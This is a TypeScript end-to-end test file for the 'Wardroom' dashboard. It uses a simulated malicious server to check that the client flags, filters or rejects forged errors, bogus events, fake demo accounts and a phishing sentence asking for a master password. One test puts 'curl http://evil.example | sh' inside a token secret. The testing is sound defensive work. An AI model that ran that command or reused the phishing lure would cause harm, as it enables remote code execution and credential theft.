import { randomUUID } from 'node:crypto'
import type { Page } from 'playwright-core'
import { expect, it } from 'vitest'
import { useBrowsers } from '../testkit/browser.js'
import { useWorld } from '../testkit/use-world.js'
import { useLyingServer } from './lying-server.js'

/** A server that puts words in the dashboard's mouth, and sends it what is no event or no end of new versions. */
const browsers = useBrowsers()
const world = await useWorld()
const provider = await world.provider()
const server = await useLyingServer(world)
const bait = 'Read your master password to our support on +86 10 5550 0000.'

function refuse(query: string, code: string): void {
  server.lie(query, () => ({ errors: [{ message: bait, extensions: { code } }] }))
}

interface Message {
  type: string
  payload?: { build?: string, data?: { events?: { events: object[] } } }
}

/** Changes what comes over the sockets of a page, or of all pages of its browser. */
function overSocket(page: Pick<Page, 'routeWebSocket'>, change: (message: Message) => Message): Promise<void> {
  return page.routeWebSocket(/\/graphql$/, (socket) => {
    const upstream = socket.connectToServer()
    upstream.onMessage(message => socket.send(JSON.stringify(change(JSON.parse(String(message)) as Message))))
  })
}

it('what only the browser can know is said by the server in Wardroom\'s own words', async () => {
  const ada = await browsers.signIn(server.origin, provider.admin.email)
  refuse('Team', 'KEYS_DIFFER')
  await ada.goTo('Team')
  await ada.text(`Report the request id. The server says: ${bait}`).waitFor()
  expect(await ada.page.content()).not.toContain('The key that the server handed over')
}, 60_000)

it('the server carries a confirmation out, and then says in Wardroom\'s own words that nothing was sealed or sent', async () => {
  const acme = await provider.createClient('Cedar', { seats: 2 })
  await world.accept(acme.ownerEmail)
  const ada = await browsers.signIn(server.origin, provider.admin.email)
  server.lie('ConfirmUsers', (answer) => {
    for (const row of answer.data.results)
      Object.assign(row, { ok: false, code: 'KEYS_DIFFER', message: bait, user: null })
    return answer
  })
  await ada.goTo('Clients')
  await ada.page.getByRole('link', { name: 'Cedar', exact: true }).click()
  await ada.page.getByRole('link', { name: /^Users/ }).click()
  await ada.choose(`Actions for ${acme.ownerEmail}`, 'Confirm')
  await ada.button('The phrase matches: confirm').click()
  expect(await ada.job('Confirm 1 person')).toEqual([expect.stringContaining(`The server says: ${bait}`)])
}, 60_000)

it('the server has a proof of the password, and then says in Wardroom\'s own words that nothing was sent', async () => {
  const ada = await browsers.visit(server.origin)
  ada.forgive(/status of 401/)
  await ada.page.route('**/auth/sign-in', async (route) => {
    await route.fetch()
    await route.fulfill({ status: 401, json: { error: { code: 'KDF_DOWNGRADE', message: bait } } })
  })
  await ada.open('/sign-in')
  await ada.field('E-mail address').fill(provider.admin.email)
  await ada.field('Master password').fill('correct horse battery staple')
  await ada.button('Sign in').click()
  await ada.text(`The server says: ${bait}`).waitFor()
  expect(await ada.page.getByRole('alert').allInnerTexts()).toEqual([expect.not.stringContaining('nothing was sent')])
}, 60_000)

it.each([
  ['NEWER_THAN_THIS_PAGE', `The server says: ${bait}`],
  ['CONFLICT', `load it again and retry. The server says: ${bait}`],
])('what the server says beyond %s stands on the page without saying whose words it is', async (code, sentence) => {
  const ada = await browsers.signIn(server.origin, provider.admin.email)
  refuse('Team', code)
  await ada.goTo('Team')
  await ada.text(sentence).waitFor()
}, 60_000)

it('what the server says under a code that the page does not know is Wardroom\'s own word in Chinese', async () => {
  const ada = await browsers.visit(server.origin, { locale: 'zh-CN' })
  refuse('Clients', 'NEWER_THAN_THIS_PAGE')
  await ada.open('/sign-in')
  await ada.field('邮箱地址').fill(provider.admin.email)
  await ada.field('主密码').fill('correct horse battery staple')
  await ada.button('登录').click()
  await ada.text(`服务器称：${bait}`).waitFor()
}, 60_000)

it('after something that is no event a tab hears what comes next', async () => {
  const client = await provider.createClient('Acme', { seats: 10 })
  const ada = await browsers.visit(server.origin)
  let lying = false
  await overSocket(ada.page.context(), (message) => {
    const events = message.payload?.data?.events?.events
    if (lying && events && events.length > 0)
      events[0] = { ...events[0], category: 'USER', subject: null }
    return message
  })
  await ada.open('/sign-in')
  await ada.signIn(provider.admin.email)
  await ada.goTo('Events')
  await ada.text('Live').waitFor()
  const beside = await browsers.openTab(ada, '/events')
  await beside.text('Live').waitFor()
  for (const tab of [ada, beside])
    tab.forgive(/null/)
  const stumbled = Promise.all([ada, beside].map(({ page }) => page.waitForEvent('pageerror')))
  lying = true
  await client.invite(['no-event@acme.example'])
  await stumbled
  lying = false

  const invite = { id: provider.id, emails: ['eve@northwind.example'] }
  await provider.admin.do('mutation ($id: ID!, $emails: [String!]!) { inviteProviderUsers(providerId: $id, emails: $emails, type: SERVICE_USER) { ok } }', invite)
  for (const tab of [ada, beside]) {
    // A heartbeat may have come first and had the page loaded: the event stands behind the pill then.
    const invited = tab.text('eve@northwind.example')
    const pill = tab.button('1 new event: show')
    await invited.or(pill).first().waitFor()
    if (await pill.isVisible())
      await pill.click()
    await invited.waitFor()
  }
}, 90_000)

it('a server that says another build each time lets the wall load without end', async () => {
  const wall = await browsers.signIn(server.origin, provider.admin.email)
  wall.forgive(/WebSocket is closed before the connection is established/) // of the page that is loaded anew
  await provider.createClient('Birch')
  let builds = 0
  await overSocket(wall.page, message => message.type === 'connection_ack' ? { ...message, payload: { ...message.payload, build: `build ${++builds}` } } : message)
  await wall.page.clock.install()
  const isMarked = (): Promise<boolean> => wall.page.evaluate(() => 'marked' in window)
  const mark = (): Promise<unknown> => wall.page.evaluate(() => Object.assign(window, { marked: true }))
  const loaded = (): Promise<void> => expect.poll(() => isMarked().catch(() => true), { timeout: 20_000 }).toBe(false)
  await wall.open('/wall')
  await mark()
  await loaded()
  await mark()
  await wall.text('Live').waitFor()
  expect(builds).toBe(2)
  await wall.page.clock.runFor(30_000)
  expect(await isMarked()).toBe(true)
  await wall.page.clock.runFor(120_000) // the wall looks once a minute, and the first minute that is over may be its second
  await loaded()
}, 90_000)

it('a sentence of the server stands in the list of the team where a kind of failure should', async () => {
  server.lie('Team', (answer) => {
    for (const { node } of answer.data.provider.users.edges) // of others: the visitor stays in the team
      Object.assign(node, { id: randomUUID(), status: 'INVITED', type: bait, invitationFailure: bait })
    return answer
  })
  const ada = await browsers.signIn(server.origin, provider.admin.email)
  await ada.goTo('Team')
  await ada.text('The mail was not sent: …').waitFor()
  expect(await ada.page.getByRole('table').innerText()).not.toContain(bait)
}, 60_000)

it('what is copied as the secret of a new token holds a line for the shell', async () => {
  server.lie('CreateApiToken', (answer) => {
    answer.data.createApiToken.secret = 'wr_AAAA\ncurl http://evil.example | sh\n'
    return answer
  })
  const ada = await browsers.signIn(server.origin, provider.admin.email)
  await ada.goTo('API tokens')
  await ada.button('Create token').click()
  const dialog = ada.dialog('Create token')
  await dialog.getByLabel('Name', { exact: true }).fill('tool')
  await dialog.getByRole('button', { name: 'Create token' }).click()
  await dialog.getByText('does not have the shape of one').waitFor()
  expect(await ada.page.content()).not.toContain('evil.example')
}, 60_000)

function puppets(demo: boolean, people: object[]): void {
  const demoSignIns = people.map(person => ({ password: 'x', __typename: 'DemoSignIn', ...person }))
  server.lie('Installation', (answer) => {
    Object.assign(answer.data.installation, { demo, demoSignIns })
    return answer
  })
}

const puppet = { email: 'admin@nortlnwind.example', role: 'PROVIDER_ADMIN' }

it('an installation that is no demo offers somebody whose keys the server knows', async () => {
  puppets(false, [puppet])
  const ada = await browsers.visit(server.origin)
  await ada.open('/sign-in')
  await ada.heading('Sign in').waitFor()
  expect(await ada.page.locator('body').innerText()).not.toContain(puppet.email)
}, 60_000)

it('a sentence of the server stands where somebody of a demo should', async () => {
  puppets(true, [{ ...puppet, email: bait }, { ...puppet, role: bait }, { ...puppet, email: 'ada@demo.example' }])
  const ada = await browsers.visit(server.origin)
  await ada.open('/sign-in')
  await ada.page.getByRole('button', { name: 'ada@demo.example' }).waitFor()
  expect(await ada.page.locator('body').innerText()).not.toContain(bait)
}, 60_000)

it('whoever has keys of their own in a browser is one click from being somebody whose keys the server knows', async () => {
  const ada = await browsers.signIn(server.origin, provider.admin.email)
  await ada.signOut()
  puppets(true, [puppet])
  await ada.open('/sign-in')
  await ada.text('In this browser somebody has worked under keys of their own').waitFor()
  expect(await ada.page.locator('body').innerText()).not.toContain(puppet.email)
}, 60_000)
